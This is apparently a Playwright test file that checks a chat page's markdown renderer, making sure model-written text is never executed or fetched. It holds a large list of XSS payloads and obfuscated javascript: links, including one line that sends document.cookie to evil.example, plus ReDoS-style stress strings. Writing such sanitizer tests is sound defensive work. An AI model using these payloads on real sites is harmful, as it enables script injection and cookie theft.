"""The chat page shows what models write, and executes nothing of it."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, expect

from .browser import Call, Site, Watched, needs_browser, open_browser, open_page, open_site

pytestmark = needs_browser


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as found:
        yield found


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    with open_site() as found:
        yield found


SHOUT = "document.title='owned';fetch('https://evil.example/'+document.cookie)"
ATTACKS = [
    "<script>alert(1)</script>",
    f'<img src=x onerror="{SHOUT}">',
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css';</style>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<!--<img src="--><img src=x onerror=alert(1)//">-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template><textarea></textarea><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a><a href="data:text/html,<script>alert(1)</script>">click</a>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](  javascript:alert(1)  )",
    "[a](<javascript:alert(1)>)",
    "[a](java\tscript:alert(1)) [a](<java\nscript:alert(1)>) [a](java&#10;script:alert(1))",
    "[a](\x01javascript:alert(1)) [a](\u00a0javascript:alert(1)) [a](\u200bjavascript:alert(1))",
    "[a](javascript&colon;alert(1)) [a](&#106;avascript:alert(1)) [a](%6Aavascript:alert(1))",
    "[a](vbscript:msgbox(1)) [a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](blob:https://evil.example/1) [a](file:///etc/passwd) [a](filesystem:http://x/y) [a](about:blank)",
    "[a](//evil.example) [a](/v1/conversations) [a](?x=1) [a](#/new) [a](\\\\evil.example)",
    "[a](https://user:pass@evil.example/) <https://bank.example@evil.example/>",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "![a](javascript:alert(1)) ![a](data:image/svg+xml,<svg onload=alert(1)>) ![a](https://evil.example/pixel.png)",
    "[![a](https://evil.example/pixel.png)](javascript:alert(1))",
    '[a](https://ok.example "onmouseover=alert(1)") [a](https://ok.example/"onmouseover="alert(1))',
    '[x" onclick=alert(1) y="](https://ok.example)',
    "`<img src=x onerror=alert(1)>` **<b onmouseover=alert(1)>bold</b>** ~~<i>x</i>~~",
    '```"><img/src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [a](javascript:alert(1)) | <script>alert(1)</script> |",
    "- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>\n1. [a](javascript:alert(1))",
    "> <script>alert(1)</script>\n> [a](javascript:alert(1))",
    "# <img src=x onerror=alert(1)>",
    "- [ ] <script>alert(1)</script>\n- [x] [a](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e \uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    'https://ok.example/"onmouseover=alert(1) https://ok.example/<script>alert(1)</script>',
    "__proto__ constructor toString [__proto__](https://ok.example)",
    "\u202ejavascript:alert(1)\u202c [\u202egpj.exe](https://ok.example)",
    "[ref]: javascript:alert(1)\n[ref] [a][ref]",
]


_DANGERS = """() => {
    const all = [...document.querySelectorAll("#thread *, #rows *, #title, .bar *")];
    const bad = "script, iframe, object, embed, link, style, base, meta, form, img, video, audio, template, math, "
        + "foreignObject, animate";
    const handler = /^on|^style$|^srcdoc$|^formaction$/i;
    return {
        elements: all.filter((el) => el.matches(bad)).map((el) => el.outerHTML),
        handlers: all.flatMap((el) => [...el.attributes].map((one) => one.name).filter((name) => handler.test(name))),
        links: [...document.querySelectorAll("#thread a")].map((a) => [a.protocol, a.rel, a.target]),
        title: document.title,
    };
}"""


def assert_harmless(page: Watched) -> None:
    """Nothing that a model wrote has become more than text, emphasis, and links to other sites."""
    found: dict[str, Any] = page.page.evaluate(_DANGERS)
    assert found["elements"] == []
    assert found["handlers"] == []
    for protocol, rel, target in found["links"]:
        assert protocol in ("http:", "https:", "mailto:")
        assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
    assert found["title"].endswith("Chat")
    own = urlsplit(page.page.url).netloc
    assert [one for one in page.requests if urlsplit(one).netloc != own] == []


@pytest.mark.parametrize("part", range(6))
def test_nothing_in_an_answer_is_executed_or_fetched(browser: Browser, site: Site, part: int) -> None:
    attacks = ATTACKS[part::6]
    with open_page(browser, site.url) as page:
        for number, attack in enumerate(attacks):
            # Piece by piece, since a half of it must be as harmless as the whole; and in the title and the ask.
            site.answer(f"{attack} {number}", [attack[at : at + 7] for at in range(0, len(attack), 7)], [])
            page.send(f"{attack} {number}")
            page.page.locator(".turn").nth(number).locator(".turn-foot button").first.wait_for()
            page.wait_idle()
            assert_harmless(page)
        for link in page.page.locator("#thread a").all():
            link.hover()
        page.page.reload()
        page.page.locator(".turn").nth(len(attacks) - 1).wait_for()
        assert_harmless(page)
        assert page.page.url.startswith(site.url)


HOSTILE = {"<img src=x onerror=alert(1)>": "</code><script>alert(1)</script>", "path": "`</pre>`"}


def test_nothing_in_a_tools_name_input_or_result_is_executed(browser: Browser, site: Site) -> None:
    site.answer("go", [Call("<img src=x onerror=alert(1)>", HOSTILE), Call("read_file", {"path": ATTACKS[1]})], ["ok"])
    with open_page(browser, site.url) as page:
        page.send("go")
        page.wait_text("ok")
        for card in page.page.locator(".card summary").all():
            card.click()
        assert_harmless(page)
        expect(page.page.locator(".card-body").nth(1)).to_contain_text(ATTACKS[1])


def test_nothing_in_a_question_is_executed(browser: Browser, site: Site) -> None:
    site.answer("ask", [Call("ask_time", {"what": ATTACKS[1]})], ["ok"])
    with open_page(browser, site.url) as page:
        page.send("ask")
        expect(page.page.locator(".ask-title")).to_contain_text(ATTACKS[1])
        assert_harmless(page)


RENDERED = [
    ("**bold** and *it* and ***both*** and ~~gone~~", "<strong>bold</strong> and <em>it</em> and "
     "<em><strong>both</strong></em> and <del>gone</del>"),
    ("snake_case_name and 2 * 3 * 4", "snake_case_name and 2 * 3 * 4"),
    ("`a < b` and `` a`b ``", '<code dir="ltr">a &lt; b</code> and <code dir="ltr">a`b</code>'),
    ("a\nb", "a<br>b"),
    ("\\*not\\* \\`code\\`", "*not* `code`"),
    ("**open and `open", "**open and `open"),
    ("<b>tag</b> &amp;", "&lt;b&gt;tag&lt;/b&gt; &amp;amp;"),
]  # fmt: skip


@pytest.mark.parametrize(("source", "html"), RENDERED, ids=range(len(RENDERED)))
def test_emphasis_and_code_are_shown_as_such(browser: Browser, site: Site, source: str, html: str) -> None:
    site.answer(f"show {source}", [source])
    with open_page(browser, site.url) as page:
        page.send(f"show {source}")
        page.page.locator(".text p").wait_for()
        page.wait_idle()
        assert page.page.locator(".text p").inner_html() == html


def links(page: Watched) -> list[tuple[str, str]]:
    return [(one.inner_text(), str(one.get_attribute("href"))) for one in page.page.locator(".text a").all()]


def test_links_lead_where_they_say(browser: Browser, site: Site) -> None:
    text = (
        "[docs](https://ok.example/a_(b)) https://bare.example/x?y=1. <mailto:ada@ok.example> "
        "[https://bank.example](https://evil.example/login) ![a cat](https://pics.example/cat.png)"
    )
    site.answer("links", [text])
    with open_page(browser, site.url) as page:
        page.send("links")
        page.wait_text("docs")
        page.wait_idle()
        assert links(page) == [
            ("docs", "https://ok.example/a_(b)"),
            ("https://bare.example/x?y=1", "https://bare.example/x?y=1"),
            ("mailto:ada@ok.example", "mailto:ada@ok.example"),
            ("https://bank.example", "https://evil.example/login"),
            ("Image: a cat", "https://pics.example/cat.png"),
        ]
        # A text that looks like one place and leads to another says so.
        assert page.page.locator(".host").all_inner_texts() == [" (evil.example)"]


DOCUMENT = """# Title

Some *text*
on two lines.

- one
- two
  - deep

    its paragraph
- three

3. third
4. fourth

> quoted
> > twice

| a | b |
|---|--:|
| 1 | x \\| y |

~~~python
def f():
    return "<b>"
~~~

---

- [x] done
- [ ] open
"""


def test_an_answer_looks_the_same_however_it_was_cut_on_its_way(browser: Browser, site: Site) -> None:
    """The incremental view is compared with one that gets the whole text at once, at every length."""
    with open_page(browser, site.url) as page:
        script = """async (text) => {
            const { Markdown } = await import("/assets/markdown.js");
            const grown = document.createElement("div");
            const view = new Markdown(grown);
            const wrong = [];
            for (let n = 0; n <= text.length; n++) {
                view.set(text.slice(0, n));
                const whole = document.createElement("div");
                new Markdown(whole).set(text.slice(0, n));
                if (grown.innerHTML !== whole.innerHTML) wrong.push(n);
            }
            const windows = document.createElement("div");
            new Markdown(windows).set(text.replaceAll("\\n", "\\r\\n"));
            return [wrong, windows.innerHTML === grown.innerHTML, [...grown.children].map((el) => el.tagName)];
        }"""
        wrong, same, tags = page.page.evaluate(script, DOCUMENT)
        assert wrong == []
        assert same
        assert tags == ["H4", "P", "UL", "OL", "BLOCKQUOTE", "DIV", "DIV", "HR", "UL"]


HEAVY = {
    "brackets": "[" * 20_000,
    "openers": "[a](" * 5_000,
    "stars": "*a " * 10_000,
    "mixed": "**a_b" * 5_000,
    "ticks": "".join("`" * n + " " for n in range(300)),
    "quotes": ">" * 20_000,
    "angles": "<" * 20_000,
    "dashes": "- " * 20_000,
    "spaces": "# a" + " " * 30_000 + "b",
    "pipes": "|" * 20_000 + "\n" + "|-" * 20_000,
    "nesting": "".join(" " * (2 * n) + "- x\n" for n in range(200)),
}


def test_no_text_takes_time_out_of_proportion(browser: Browser, site: Site) -> None:
    """Each text is compared with plain words of the same length, in the same run."""
    with open_page(browser, site.url) as page:
        script = """async (texts) => {
            const { Markdown } = await import("/assets/markdown.js");
            const time = (text) => {
                const begin = performance.now();
                new Markdown(document.createElement("div")).set(text);
                return performance.now() - begin;
            };
            time("warm *up* `it` [x](https://ok.example) ".repeat(500));
            const slow = {};
            for (const [name, text] of Object.entries(texts)) {
                const half = Math.min(...[0, 1, 2].map(() => time(text.slice(0, text.length / 4))));
                const whole = Math.min(...[0, 1, 2].map(() => time(text)));
                if (whole > 50 && whole > 12 * half) slow[name] = [half, whole];  // quadratic would be 16 times
            }
            return slow;
        }"""
        assert page.page.evaluate(script, HEAVY) == {}
